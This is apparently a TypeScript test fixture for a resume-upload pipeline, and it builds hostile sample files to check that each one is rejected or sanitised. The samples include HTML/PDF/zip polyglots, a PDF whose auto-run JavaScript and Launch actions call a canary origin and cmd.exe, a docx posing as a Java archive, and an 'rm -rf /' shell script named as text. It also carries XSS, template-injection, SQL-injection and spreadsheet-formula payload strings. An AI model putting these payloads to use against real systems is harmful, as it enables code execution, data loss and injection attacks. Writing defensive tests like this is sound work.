import { buildPdf, firstExtraObject, streamObject } from '@nextrung/documents/read/testing/build-pdf'
import type { Canary, Family } from '../hostile-file.ts'
import { docxResume, docxWith, pdfResume, resumeLines, textResume } from '../sample-content.ts'

const page = '<html><body><script>document.title="ran"</script></body></html>'
const texts = resumeLines.map((text, at) => ({ x: 50, y: 60 + at * 16, text }))
const gif = Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1')

const active = ({ origin }: Canary) => {
  const first = firstExtraObject(1)
  return buildPdf([{ texts, links: [{ x: 50, y: 60, width: 90, height: 12, url: `${origin}/link` }] }], {
    catalog: `/OpenAction ${first} 0 R /AA << /WC ${first + 1} 0 R >> /AcroForm << /XFA ${first + 2} 0 R /Fields [] >> /URI << /Base (${origin}/base) >>`,
    extraObjects: [
      `<< /S /JavaScript /JS (app.launchURL("${origin}/js"); this.submitForm("${origin}/form")) >>`,
      `<< /S /Launch /F (${origin}/launch) /Win << /F (cmd.exe) >> >>`,
      streamObject(
        Buffer.from(
          `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template href="${origin}/xfa"/></xdp:xdp>`,
        ),
      ),
    ],
  })
}

export const polyglots: Family = {
  id: 'g09',
  title: 'Files that are more than one thing, and active content',
  files: [
    {
      what: 'a web page, a PDF and a zip at once',
      fileName: 'a.pdf',
      bytes: () => Buffer.concat([Buffer.from(`${page}\n`), pdfResume(), docxResume()]),
      allowed: ['accepted', 'notPdf', 'notAllowed'],
      lacks: '<script>',
    },
    {
      what: 'the same called Word',
      fileName: 'a.docx',
      bytes: () => Buffer.concat([Buffer.from(`${page}\n`), pdfResume(), docxResume()]),
      allowed: ['notAllowed', 'notWord'],
    },
    {
      what: 'a PDF with a zip behind it, called Word',
      fileName: 'a.docx',
      bytes: () => Buffer.concat([pdfResume(), docxResume()]),
      allowed: ['notAllowed'],
    },
    {
      what: 'a PDF with scripts, programs and forms',
      fileName: 'a.pdf',
      bytes: active,
      allowed: ['accepted'],
      keeps: 'Maya Okafor',
      lacks: 'launchURL',
      isQuick: true,
    },
    {
      what: 'a picture that goes on as text',
      fileName: 'a.txt',
      bytes: () => Buffer.concat([gif, textResume()]),
      allowed: ['notAllowed'],
    },
    {
      what: 'a Word file that is also a program archive',
      fileName: 'a.docx',
      bytes: () =>
        docxWith([
          { name: 'META-INF/MANIFEST.MF', data: 'Main-Class: Evil\n' },
          { name: 'Evil.class', data: Buffer.from('cafebabe00000034', 'hex') },
        ]),
      allowed: ['accepted'],
      keeps: 'Maya Okafor',
    },
    {
      what: 'a web page called text',
      fileName: 'a.txt',
      bytes: () => Buffer.from(`<!doctype html>${page}`),
      allowed: ['notAllowed'],
    },
    {
      what: 'a drawing with a script called text',
      fileName: 'a.txt',
      bytes: () => Buffer.from('<svg onload="alert(1)"/>'),
      allowed: ['notAllowed'],
    },
    {
      what: 'a shell script called text',
      fileName: 'a.txt',
      bytes: () => Buffer.from('#!/bin/sh\nrm -rf /\n'),
      allowed: ['accepted'],
    },
    {
      what: 'a resume of markup, as plain text',
      fileName: 'a.txt',
      bytes: () =>
        textResume([
          '<script>alert(1)</script>',
          '<img src=x onerror=alert(1)>',
          '{{7*7}} #{7*7} <%= 7*7 %>',
          "'; drop table users; --",
        ]),
      allowed: ['accepted'],
      keeps: '<script>alert(1)</script>',
      isQuick: true,
    },
    {
      what: 'formulas as plain text',
      fileName: 'a.txt',
      bytes: () => textResume(['=cmd|calc!A1', '@SUM(1+1)', '+1+cmd']),
      allowed: ['accepted'],
    },
  ],
}
